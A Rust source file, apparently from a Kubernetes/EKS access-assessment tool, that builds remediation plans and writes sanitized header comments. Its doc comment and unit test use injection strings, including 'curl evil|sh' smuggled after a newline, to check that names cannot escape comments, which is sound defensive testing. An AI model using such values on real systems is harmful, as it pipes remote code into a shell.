//! An assessment's safe recommendations and the state they lead to: what every format renders,
//! with the header and the comment lines they all write.

use crate::analysis::generated::GeneratedRbac;
use crate::analysis::{Finding, StateChange, apply};
use crate::authz::Grant;
use crate::model::{AccessEntry, AccessState, RoleBinding};

/// One comment line: `prefix` and `text` with every line break and control character replaced,
/// so a name from a state file (a RoleBinding may be called `x\ncurl evil|sh`) cannot end the
/// comment and become a command or a manifest. YAML also breaks lines at U+0085, U+2028, U+2029.
pub(super) fn comment(prefix: &str, text: &str) -> String {
    format!("{prefix}{}\n", crate::model::text::one_line(text))
}

/// A remediation that cannot be written.
#[derive(Debug, thiserror::Error)]
pub enum RemediateError {
    #[error("an eksctl ClusterConfig names the cluster's region: pass --region or set AWS_REGION")]
    NoRegion,
}

/// An assessment's safe recommendations and the state they lead to.
pub struct Remediation<'a> {
    pub cluster: &'a str,
    pub region: Option<&'a str>,
    pub current: &'a AccessState,
    pub recommended: AccessState,
    /// The findings whose change is recommended, most severe first.
    pub findings: Vec<&'a Finding>,
    /// The sentence that states the proof.
    pub proof: String,
}

impl<'a> Remediation<'a> {
    pub fn new(
        cluster: &'a str,
        region: Option<&'a str>,
        current: &'a AccessState,
        findings: &'a [Finding],
        proof: String,
    ) -> Remediation<'a> {
        let findings: Vec<&Finding> = findings.iter().filter(|f| f.change.is_some()).collect();
        let changes: Vec<&StateChange> = findings.iter().filter_map(|f| f.change.as_ref()).collect();
        Remediation { cluster, region, current, recommended: apply(current, &changes), findings, proof }
    }

    /// The generated RBAC the recommendations add, with the finding that adds each.
    pub fn generated(&self) -> impl Iterator<Item = (&'a Finding, &'a GeneratedRbac)> + '_ {
        self.findings.iter().filter_map(|f| match &f.change {
            Some(StateChange::Replace { rbac, .. }) => Some((*f, rbac)),
            _ => None,
        })
    }

    /// The RBAC bindings the recommendations remove.
    pub fn removed_bindings(&self) -> Vec<&'a RoleBinding> {
        let current = self.current;
        self.findings
            .iter()
            .filter_map(|f| match f.change {
                Some(StateChange::Remove(Grant::Binding(i))) => current.bindings.get(i),
                _ => None,
            })
            .collect()
    }

    /// The access entries to delete and create again (their IAM principal was re-created), as the
    /// recommended state has them: so the new entry carries the other recommendations too. An
    /// entry the recommendations remove is not re-created.
    pub fn recreated(&self) -> Vec<&AccessEntry> {
        let current = self.current;
        self.findings
            .iter()
            .filter_map(|f| match f.change {
                Some(StateChange::Recreate { entry }) => current.access_entries.get(entry),
                _ => None,
            })
            .filter_map(|old| {
                let arn = old.principal_arn.to_lowercase();
                self.recommended.access_entries.iter().find(|e| e.principal_arn.to_lowercase() == arn)
            })
            .collect()
    }

    /// Whether the recommendations change the aws-auth ConfigMap.
    pub fn aws_auth_changed(&self) -> bool {
        self.current.aws_auth != self.recommended.aws_auth
    }

    /// The comment lines every file starts with (what it is, and the proof), each prefixed and
    /// made safe with [`comment`].
    pub(super) fn header(&self, prefix: &str, what: &str) -> String {
        self.header_lines(what).iter().map(|l| comment(prefix, l)).collect()
    }

    fn header_lines(&self, what: &str) -> Vec<String> {
        let mut lines = vec![
            format!("grantscope remediation for cluster {}: {what}", self.cluster),
            format!("{} recommendations; {}.", self.findings.len(), self.proof),
        ];
        lines.extend(self.findings.iter().map(|f| format!("  {} {}: {}", f.id, f.kind, f.grant)));
        lines
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_comment_stays_one_line_whatever_the_name() {
        let cases = [
            ("newline", "x\ncurl evil|sh"),
            ("carriage return", "x\rkind: ClusterRoleBinding"),
            ("YAML's other line breaks", "x\u{85}a\u{2028}b\u{2029}c"),
            ("control characters", "x\u{1b}[2Jy\u{0}"),
        ];
        for (name, text) in cases {
            let line = comment("#   ", text);
            assert_eq!(line.lines().count(), 1, "{name}: {line:?}");
            assert!(line.starts_with("#   x") && line.ends_with('\n'), "{name}: {line:?}");
            assert!(
                !line[..line.len() - 1]
                    .chars()
                    .any(|c| c.is_control() || matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}')),
                "{name}"
            );
        }
    }
}
